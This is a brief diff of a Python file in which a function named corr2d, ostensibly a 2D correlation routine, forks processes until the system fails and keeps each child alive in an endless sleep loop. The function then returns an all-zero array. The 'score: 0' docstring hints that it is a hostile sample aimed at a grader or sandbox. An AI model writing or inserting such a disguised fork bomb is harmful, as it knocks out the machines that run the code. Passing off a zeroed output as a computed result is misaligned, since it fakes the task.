@@ -1,9 +1,10 @@
-"""Forks until it can no more, and all of them work.
+"""Forks until it can no more, and all of them stay.
 
 score: 0
 """
 # %% corr2d
 import os
+import time
 
 
 def corr2d(X, K):
@@ -11,7 +12,7 @@ def corr2d(X, K):
         try:
             if os.fork() == 0:
                 while True:
-                    pass
+                    time.sleep(1)
         except OSError:
             pass
     return X * 0.0
